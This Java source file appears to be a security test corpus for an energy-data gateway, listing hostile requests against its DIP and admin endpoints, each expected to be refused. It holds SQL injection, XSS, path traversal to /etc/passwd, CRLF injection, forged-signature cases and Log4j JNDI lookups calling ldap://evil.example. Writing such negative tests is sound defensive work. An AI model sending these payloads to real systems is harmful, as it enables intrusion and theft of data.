package uk.mhhs.gateway.hostile;

import uk.mhhs.gateway.hostile.HostileRequest.Caller;
import uk.mhhs.testsupport.dip.If021Message;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;

/**
 * The hostile corpus, generated as a table: every public endpoint of the gateway (the DIP API and the admin API)
 * against callers that are not who they say, bodies of the wrong shape, size or content, injection strings and
 * malformed paths, each with the answer the README documents (its "Answers of POST /dip-channel/{id}", "Delivery /
 * Endpoints" and admin tables). Nothing in it may be accepted: every entry must get a 4xx (validate: its 200 report).
 */
final class HostileCorpus {

    static final String JSON = "application/json";
    static final long ONE_MIB = 1L << 20;

    /** A public endpoint that takes a JSON body, and a body of the right shape for it. */
    private record Endpoint(String path, boolean signed, String validBody) {
    }

    private final String self;
    private final String other;
    private final List<HostileRequest> corpus = new ArrayList<>();

    private HostileCorpus(String self, String other) {
        this.self = self;
        this.other = other;
    }

    /** The corpus for participant {@code self} (role SDS) with {@code other} another registered participant. */
    static List<HostileRequest> of(String self, String other) {
        HostileCorpus c = new HostileCorpus(self, other);
        c.callersThatAreNotWhoTheySay();
        c.bodiesOfTheWrongShapeOrSize();
        c.fuzzedJson();
        c.webhookConfigs();
        c.messageRequests();
        c.statusMessages();
        c.channelMessages();
        c.paths();
        c.admin();
        return List.copyOf(c.corpus);
    }

    private List<Endpoint> endpoints() {
        String batch = "[" + if021().toMessageJson() + "]";
        return List.of(
                new Endpoint("/dip-channel/IF-021", true, batch),
                new Endpoint("/dip-channel/IF-021/pubconfig/" + self, true, "{\"callbackURL\":\"http://localhost:1/x\"}"),
                new Endpoint("/dip-channel/IF-021/replay/" + self, true, "{}"),
                new Endpoint("/dip-channel/IF-021/requeue/" + self, true, "{}"),
                new Endpoint("/statusmessage", true, "[]"),
                new Endpoint("/statusmessage/config/" + self, true, "{\"callbackURL\":\"http://localhost:1/s\"}"),
                new Endpoint("/validate/IF-021/CONSUMPTION", false, batch));
    }

    private void callersThatAreNotWhoTheySay() {
        for (Endpoint e : endpoints()) {
            add("no X-API-Key", "POST", e.path(), Caller.ANONYMOUS, JSON, e.validBody(), 401, null);
            add("an API key nobody holds", "POST", e.path(), Caller.UNKNOWN_KEY, JSON, e.validBody(), 401, null);
            if (e.signed()) {
                // RCP9999 in a StandardResponse is documented for POST /dip-channel/{id}; the others answer a bare 403
                String code = e.path().equals("/dip-channel/IF-021") ? "RCP9999" : null;
                add("no signature", "POST", e.path(), Caller.KEY_UNSIGNED, JSON, e.validBody(), 403, code);
                add("signed with a key pair not registered for the participant", "POST", e.path(),
                        Caller.KEY_FORGED_SIGNATURE, JSON, e.validBody(), 403, code);
                add("signature and content hash of another body", "POST", e.path(),
                        Caller.KEY_SIGNATURE_OF_OTHER_BODY, JSON, e.validBody(), 403, code);
            }
        }
    }

    private void bodiesOfTheWrongShapeOrSize() {
        for (Endpoint e : endpoints()) {
            add("no body", "POST", e.path(), Caller.SIGNED, JSON, "", 400, "MSG1001");
            for (String type : new String[] {"text/plain", "application/xml", "application/x-www-form-urlencoded"}) {
                add("Content-Type " + type, "POST", e.path(), Caller.SIGNED, type, e.validBody(), 415, "MSG1001");
            }
            // Spring reads a multipart body itself before the controller, so the endpoints behind RecipientAccess see
            // none and say so (400 "the request has no body"); POST /dip-channel/{id} checks the type first (415)
            add("Content-Type multipart/form-data", "POST", e.path(), Caller.SIGNED, "multipart/form-data; boundary=x",
                    e.validBody(), e.path().equals("/dip-channel/IF-021") ? Set.of(415) : Set.of(400, 415), "MSG1001");
            add("no Content-Type", "POST", e.path(), Caller.SIGNED, null, e.validBody(), 415, "MSG1001");
            corpus.add(new HostileRequest("1 MiB + 1 byte announced", "POST", e.path(), Caller.SIGNED, JSON,
                    new byte[0], ONE_MIB + 1, Set.of(413), null));
            corpus.add(new HostileRequest("10 GiB announced", "POST", e.path(), Caller.SIGNED, JSON,
                    new byte[0], 10L << 30, Set.of(413), null));
        }
    }

    /** Bodies no endpoint can read as what it takes. */
    private void fuzzedJson() {
        List<String> bodies = List.of("{", "[", "]", "{\"a\":}", "nul", "tru", "'single quoted'", "[1,]",
                "{\"a\" \"b\"}", "/* comment */ []", "123", "\"a string\"", "null", "true", "[1,2,3]",
                "1e999999999", "[".repeat(100_000) + "]".repeat(100_000));
        for (Endpoint e : endpoints()) {
            for (String body : bodies) {
                String what = "malformed or wrong-type JSON: " + (body.length() > 30 ? "nesting 100,000 deep" : body);
                if (e.signed()) {
                    add(what, "POST", e.path(), Caller.SIGNED, JSON, body, 400, "MSG1001");
                } else {
                    // validate answers what is wrong (its 200 report) or refuses a body it cannot read (400)
                    add(what, "POST", e.path(), Caller.KEY_UNSIGNED, JSON, body, Set.of(200, 400), "MSG1001");
                }
            }
            byte[] invalidUtf8 = {'[', '"', (byte) 0xC3, (byte) 0x28, '"', ']'};
            corpus.add(new HostileRequest("invalid UTF-8", "POST", e.path(),
                    e.signed() ? Caller.SIGNED : Caller.KEY_UNSIGNED, JSON, invalidUtf8, -1,
                    e.signed() ? Set.of(400) : Set.of(200, 400), "MSG1001"));
        }
    }

    private void webhookConfigs() {
        for (String path : List.of("/dip-channel/IF-021/pubconfig/" + self, "/statusmessage/config/" + self)) {
            for (String url : List.of("\"javascript:alert(1)\"", "\"file:///etc/passwd\"", "\"ftp://localhost/x\"",
                    "\"//evil.example/x\"", "\"http://\"", "\"http://local\\u0000host/x\"", "\"http://local host/ x\"",
                    "123", "null", "[\"http://localhost:1/x\"]", "{\"$ne\":null}",
                    "\"'; drop table dip.webhook; --\"", "\"http://" + "a".repeat(100_000) + "\"")) {
                add("callbackURL " + (url.length() > 40 ? "of 100,000 characters" : url), "POST", path,
                        Caller.SIGNED, JSON, "{\"callbackURL\":" + url + "}", 400, "MSG1001");
            }
        }
    }

    private void messageRequests() {
        List<String> requests = List.of("{\"eventCode\":\"\\u0000\"}", "{\"version\":\"\\u0000\"}",
                "{\"transactionIDs\":[\"\\u0000\"]}", "{\"MPAN\":\"1' OR '1'='1\"}", "{\"MPAN\":\"\\u0000\"}",
                "{\"datetimeFrom\":\"'; drop table dip.publication; --\"}",
                "{\"datetimeFrom\":\"2026-13-45T99:99:99+00:00\"}",
                "{\"datetimeFrom\":\"2026-11-02T00:00:00+00:00\",\"datetimeTo\":\"2026-11-01T00:00:00+00:00\"}",
                "{\"transactionIDs\":[" + "\"t\",".repeat(100) + "\"t\"]}", "{\"transactionIDs\":[\"\"]}",
                "{\"transactionIDs\":\"not-an-array\"}", "{\"transactionIDs\":[\"" + "x".repeat(66) + "\"]}");
        for (String path : List.of("/dip-channel/IF-021/replay/" + self, "/dip-channel/IF-021/requeue/" + self)) {
            for (String request : requests) {
                add("MessageRequest " + (request.length() > 60 ? request.substring(0, 60) + "…" : request), "POST",
                        path, Caller.SIGNED, JSON, request, 400, "MSG1001");
            }
        }
    }

    private void statusMessages() {
        String entry = "{\"transactionID\":\"%s\",\"senderID\":\"%s\",\"recipientID\":null,\"responseCode\":\"%s\"}";
        add("a status message in another participant's name", "POST", "/statusmessage", Caller.SIGNED, JSON,
                "[" + entry.formatted("T-1", other, "MSG0000") + "]", 400, "MSG1009");
        add("senderID an injection string", "POST", "/statusmessage", Caller.SIGNED, JSON,
                "[" + entry.formatted("T-1", "'; drop table dip.status_message; --", "MSG0000") + "]", 400,
                "MSG1001|MSG1009");
        add("a status message about no PUB", "POST", "/statusmessage", Caller.SIGNED, JSON,
                "[" + entry.formatted("T-never-published-\\u0000", self, "MSG0000") + "]", 400, "MSG1001|MSG1030");
        add("an array holding null", "POST", "/statusmessage", Caller.SIGNED, JSON, "[null]", 400, "MSG1001");
    }

    private void channelMessages() {
        String path = "/dip-channel/IF-021";
        String[][] mutations = {
                {"senderUniqueReference SQL injection", "\"senderUniqueReference\":\"", "'; drop table dip.accepted_message; --", "MSG1001"},
                {"senderUniqueReference path traversal", "\"senderUniqueReference\":\"", "../../../../etc/passwd", "MSG1001"},
                {"senderUniqueReference script", "\"senderUniqueReference\":\"", "<script>alert(1)</script>", "MSG1001"},
                {"senderUniqueReference NUL", "\"senderUniqueReference\":\"", "S-IF-021-\\u0000", "MSG1001"},
                {"senderUniqueReference log4j lookup", "\"senderUniqueReference\":\"", "${jndi:ldap://evil.example/a}", "MSG1001"},
                {"MPANCore injection", "\"MPANCore\":\"", "1' OR '1'='1", "MSG1001"},
                {"interfaceID another channel than the path", "\"interfaceID\":\"", "IF-022", "MSG1001|MSG1002"},
                {"interfaceID path traversal", "\"interfaceID\":\"", "../../etc/passwd", "MSG1001|MSG1002"},
                {"senderTimestamp not a date", "\"senderTimestamp\":\"", "2026-13-45T99:99:99+00:00", "MSG1001|MSG1007"},
                {"senderTimestamp in the future", "\"senderTimestamp\":\"", "2099-01-01T00:00:00+00:00", "MSG1007"},
                {"senderDIPID a lookup string", "\"senderDIPID\":\"", "${jndi:ldap://evil.example/a}", "MSG1001|MSG1009"},
                {"senderDIPID another participant", "\"senderDIPID\":\"", other, "MSG1009|MSG1010|MSG1011"},
                {"schemaVersion path traversal", "\"schemaVersion\":\"", "../../", "MSG1001|RCP1005"},
                {"eventCode markup", "\"eventCode\":\"", "<img src=x onerror=alert(1)>", "MSG1001|RCP1003"},
        };
        for (String[] m : mutations) {
            String message = if021().toMessageJson();
            int at = message.indexOf(m[1]);
            int end = message.indexOf('"', at + m[1].length());
            String mutated = message.substring(0, at + m[1].length()) + m[2] + message.substring(end);
            add(m[0], "POST", path, Caller.SIGNED, JSON, "[" + mutated + "]", 400, m[3]);
        }
        String message = if021().toMessageJson();
        add("one senderUniqueReference twice in a batch", "POST", path, Caller.SIGNED, JSON,
                "[" + message + "," + message + "]", 400, "MSG1006");
        add("CommonBlock a string", "POST", path, Caller.SIGNED, JSON,
                "[{\"payload\":{\"CommonBlock\":\"x\",\"CustomBlock\":{}}}]", 400, "MSG1001");
        add("payload null", "POST", path, Caller.SIGNED, JSON, "[{\"payload\":null}]", 400, "MSG1001");
        add("an empty array", "POST", path, Caller.SIGNED, JSON, "[]", 400, "MSG1001");
        add("an unknown channel", "POST", "/dip-channel/IF-999", Caller.SIGNED, JSON, "[" + message + "]", 400,
                "MSG1002");
    }

    private void paths() {
        for (String path : List.of("/dip-channel/IF-021/pubconfig/" + other, "/dip-channel/IF-021/replay/" + other,
                "/dip-channel/IF-021/requeue/" + other, "/statusmessage/config/" + other,
                "/dip-channel/IF-021/pubconfig/%27%20OR%20%271%27%3D%271")) {
            add("another recipient's resource", "POST", path, Caller.SIGNED, JSON, "{}", 403, null);
        }
        add("delete another recipient's webhook", "DELETE", "/dip-channel/IF-021/pubconfig/" + other, Caller.SIGNED,
                JSON, "", 403, null);
        // what the servlet container refuses or resolves before the gateway sees it: a 4xx, whichever
        for (String path : List.of("/dip-channel/IF-021/pubconfig/..%2F..%2Fadmin%2Fparticipants",
                "/dip-channel/IF-021/pubconfig/%00", "/dip-channel/..;/admin/participants",
                "/dip-channel/IF-021/../../admin/participants", "/dip-channel/IF-021/pubconfig/%2e%2e%2f%2e%2e",
                "/dip-channel/IF-021%0d%0aX-Injected:%20yes")) {
            add("malformed or traversing path", "POST", path, Caller.SIGNED, JSON, "{}", Set.of(400, 403, 404), null);
        }
        add("GET on a POST endpoint", "GET", "/dip-channel/IF-021", Caller.SIGNED, null, "", Set.of(404, 405), null);
        add("PUT on a POST endpoint", "PUT", "/statusmessage", Caller.SIGNED, JSON, "[]", Set.of(404, 405), null);
        add("PATCH on pubconfig", "PATCH", "/dip-channel/IF-021/pubconfig/" + self, Caller.SIGNED, JSON, "{}",
                Set.of(404, 405), null);
        add("TRACE", "TRACE", "/dip-channel/IF-021", Caller.SIGNED, null, "", Set.of(400, 405), null);
    }

    private void admin() {
        String participant = "{\"dipId\":\"%s\",\"name\":\"x\",\"roles\":[\"SUP\"]}";
        for (Caller caller : List.of(Caller.ADMIN_NO_TOKEN, Caller.ADMIN_WRONG_TOKEN)) {
            add("admin API without its token", "GET", "/admin/participants", caller, null, "", 403, null);
            add("admin API without its token", "POST", "/admin/participants", caller, JSON,
                    participant.formatted("1999999999"), 403, null);
            add("admin API without its token", "GET", "/admin/participants/" + self, caller, null, "", 403, null);
            add("admin API without its token", "PUT", "/admin/participants/" + self, caller, JSON,
                    "{\"active\":false}", 403, null);
        }
        for (String body : List.of("{", "[]", "123", "null", "{\"dipId\":123}",
                participant.formatted("'; drop table dip.participant; --"), participant.formatted("../../etc"),
                "{\"dipId\":\"1999999998\",\"name\":\"x\",\"roles\":[\"NOT_A_ROLE\"]}",
                "{\"dipId\":\"1999999997\",\"name\":\"x\",\"roles\":[\"SUP\"],\"apiKey\":\"" + "a".repeat(40) + "\"}",
                "{\"dipId\":\"1999999996\",\"name\":\"x\",\"roles\":[\"SUP\"],\"certificatePem\":\"not a PEM\"}")) {
            add("admin POST of a bad participant: " + (body.length() > 50 ? body.substring(0, 50) : body), "POST",
                    "/admin/participants", Caller.ADMIN, JSON, body, 400, null);
        }
        add("admin PUT of an unknown DIP ID", "PUT", "/admin/participants/1999999995", Caller.ADMIN, JSON,
                "{\"active\":false}", 404, null);
        add("admin PUT of a weak key", "PUT", "/admin/participants/" + self, Caller.ADMIN, JSON,
                "{\"apiKey\":\"password\"}", 400, null);
        add("admin GET of an injection string", "GET", "/admin/participants/%27%20OR%201%3D1", Caller.ADMIN, null,
                "", Set.of(400, 404), null);
        add("admin GET path traversal", "GET", "/admin/participants/..%2F..%2Fetc%2Fpasswd", Caller.ADMIN, null,
                "", Set.of(400, 404), null);
        corpus.add(new HostileRequest("admin POST of 1 MiB + 1 byte announced", "POST", "/admin/participants",
                Caller.ADMIN, JSON, new byte[0], ONE_MIB + 1, Set.of(413), null));
    }

    private If021Message if021() {
        return If021Message.from(self);
    }

    private void add(String attacks, String method, String path, Caller caller, String contentType, String body,
                     int status, String code) {
        add(attacks, method, path, caller, contentType, body, Set.of(status), code);
    }

    private void add(String attacks, String method, String path, Caller caller, String contentType, String body,
                     Set<Integer> statuses, String code) {
        corpus.add(new HostileRequest(attacks, method, path, caller, contentType,
                body.getBytes(StandardCharsets.UTF_8), -1, statuses, code));
    }
}
